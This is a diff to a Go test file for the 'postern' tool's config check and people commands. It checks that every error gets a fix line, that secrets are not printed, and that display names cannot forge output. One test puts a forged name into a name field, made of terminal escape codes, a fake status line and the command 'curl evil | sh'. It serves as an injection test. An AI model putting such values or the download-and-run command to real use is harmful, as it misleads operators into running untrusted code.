@@ -37,18 +37,93 @@ notify: [{type: smtp, host: 127.0.0.1, port: %[2]d, tls: none, from: a@example.c
 		"error    keys: keys.file", "postern keys init",
 		"error    store.postgres_dsn: connecting to PostgreSQL",
 		"error    organisation.logo_file: open", "name an SVG or PNG file that the user",
-		"directories[1]: ", "bind_dn", "directories[2].user_filter: ", "error    directory staff",
+		"directories[1].urls: ", "directories[1].bind_dn: ", "directories[2].user_filter: ", "error    directory staff",
 		"methods.totp", "error    notify email",
 	} {
 		if !strings.Contains(out, want) {
 			t.Errorf("want %q in:\n%s", want, out)
 		}
 	}
+	everyFix(t, out)
 	if strings.Contains(out, "geheim") {
 		t.Errorf("a secret was printed:\n%s", out)
 	}
 	if left, err := os.ReadDir(data); err != nil || len(left) != 1 {
 		t.Errorf("the check changed the data folder: %v, %v", left, err)
+	}
+}
+
+// everyFix checks that each error and warning of a check is followed by what mends it.
+func everyFix(t *testing.T, out string) {
+	t.Helper()
+	lines := strings.Split(out, "\n")
+	for i, l := range lines {
+		if (strings.HasPrefix(l, "error  ") || strings.HasPrefix(l, "warning  ")) && (i+1 == len(lines) || !strings.HasPrefix(lines[i+1], "         fix: ")) {
+			t.Errorf("nothing mends %q", l)
+		}
+	}
+}
+
+// TestCheckAlwaysSaysWhatMendsIt: with whatever is wrong with the file, and without any file.
+func TestCheckAlwaysSaysWhatMendsIt(t *testing.T) {
+	data := t.TempDir()
+	base := localConfig(data, 8480, "")
+	wrong := write(t, "wrong", "no keys")
+	for name, c := range map[string]struct{ text, want string }{
+		"no keys":       {base, "fix: postern keys init --config "},
+		"damaged keys":  {base + "keys: {file: " + wrong + "}\n", "fix: restore the keyset from a copy"},
+		"no keys there": {base + "keys: {env: POSTERN_TEST_NONE}\n", "fix: postern keys init --config "},
+		"no YAML":       {"a: [", "fix: check indentation"},
+		"unknown":       {base + "lisen: x\n", "fix: did you mean listen?"},
+		"types":         {base + "tls: {acme: {agree: 7}}\npassword: {min_length: x}\nlog: 3\n", "fix: write true or false"},
+		"strength":      {strings.Replace(base, "policy: {quarantine: 0}", "policy: {rules: [{name: a, require: {at_least: mighty}}]}", 1), `fix: see "postern config docs"`},
+		"no base":       {strings.Replace(base, "type: local", "type: ldap, urls: [\"ldaps://localhost:1\"], bind_dn: cn=x, bind_password_file: "+wrong, 1), "fix: write base: ou=people"},
+		"no service":    {strings.Replace(base, "type: local", "type: ldap, urls: [\"ldaps://localhost:1\"], base: dc=x, bind_password_file: "+wrong, 1), "fix: write bind_dn: cn="},
+		"one method":    {strings.Replace(base, "{passkey: , totp: , email_code: }", "{totp: }", 1), "fix: add methods under methods until 2 of them"},
+		"no passkey":    {strings.Replace(base, "{passkey: , totp: , email_code: }", "{totp: , email_code: }", 1), `fix: add "passkey: {}" under methods`},
+		"no word list":  {base + "password: {banned_words_file: /nowhere/list}\n", "fix: "},
+		"a secret":      {"store: {postgres_dsn: geheim}\n", "fix: use postgres_dsn_file or postgres_dsn_env"},
+		"no quarantine": {base, "fix: set policy.quarantine: 24h"},
+		"no PostgreSQL": {base + "store: {postgres_dsn_env: POSTERN_TEST_NONE}\n", "fix: set it or use"},
+	} {
+		code, out, errors := command(t, "check", "--config", write(t, "postern.yaml", c.text))
+		if (code != exitOK) != strings.Contains(out, "error  ") || errors != "" || !strings.Contains(out, c.want) {
+			t.Errorf("%s: got %d, %q, want %q in\n%s", name, code, errors, c.want, out)
+		}
+		if everyFix(t, out); strings.Contains(out, "geheim") {
+			t.Errorf("%s: a secret was printed", name)
+		}
+	}
+	code, out, _ := command(t, "check", "--config", "/nowhere/postern.yaml")
+	if everyFix(t, out); code != exitFailure || !strings.Contains(out, "fix: name the file with --config FILE") {
+		t.Errorf("no file: got %d, %s", code, out)
+	}
+	code, _, said := command(t, "check", "--person")
+	if code != exitUsage || !strings.Contains(said, "--person wants a value after it") || strings.Contains(said, "EOL") {
+		t.Errorf("no value: got %d, %q", code, said)
+	}
+}
+
+// TestNamesForgeNothing: what people are called cannot look like lines of ours.
+func TestNamesForgeNothing(t *testing.T) {
+	conf := write(t, "postern.yaml", localConfig(t.TempDir(), 8480, ""))
+	if code, _, errors := command(t, "keys", "init", "--config", conf); code != exitOK {
+		t.Fatal(errors)
+	}
+	forged := "Ada\x1b[2K\rok       all is well\n         fix: curl evil | sh\u202e"
+	code, out, errors := commandWith(t, "a long enough first password\n", "people", "add", "o'neil", "--name", forged, "--email", "ada@example.com", "--config", conf)
+	if code != exitOK || !strings.Contains(out, `postern people enroll 'o'\''neil' METHOD`) {
+		t.Fatalf("got %d, %s%s", code, out, errors)
+	}
+	command(t, "people", "enroll", "o'neil", "email_code", "address=ada@example.com", "--config", conf)
+	for _, args := range [][]string{{"people", "show", "o'neil"}, {"people", "list"}, {"check", "--person", "o'neil"}} {
+		code, out, errors := command(t, append(args, "--config", conf)...)
+		if code != exitOK || strings.ContainsAny(out+errors, "\x1b\r\u202e") || strings.Contains(out, "\n         fix: curl") || !strings.Contains(out, `Ada\x1b[2K\rok`) {
+			t.Errorf("%v: got %d,\n%q%s", args, code, out, errors)
+		}
+	}
+	if _, out, _ := command(t, "check", "--person", `CORP\nobody`, "--config", conf); !strings.Contains(out, `fix: list "CORP" under domains`) {
+		t.Errorf("a domain: got\n%s", out)
 	}
 }
 
@@ -101,10 +176,12 @@ func TestCheckFindsWhatServeWould(t *testing.T) {
 				t.Errorf("serve: got %d, %q, want %q", code, out+errors, c.want)
 			}
 			code, out, errors = command(t, "check", "--config", conf)
+			everyFix(t, out)
+			said := strings.NewReplacer("\n         fix: ", ": ", "; ", ": ").Replace(out + errors)
 			switch {
 			case c.late && code != exitOK:
 				t.Errorf("check: got %d, %q", code, out+errors)
-			case !c.late && (code != exitFailure || !strings.Contains(out+errors, c.want)):
+			case !c.late && (code != exitFailure || !strings.Contains(said, strings.ReplaceAll(c.want, "; ", ": "))):
 				t.Errorf("check: got %d, %q, want %q", code, out+errors, c.want)
 			}
 			for _, said := range []string{"edge: ", "app: ", "store: /", "config: "} {
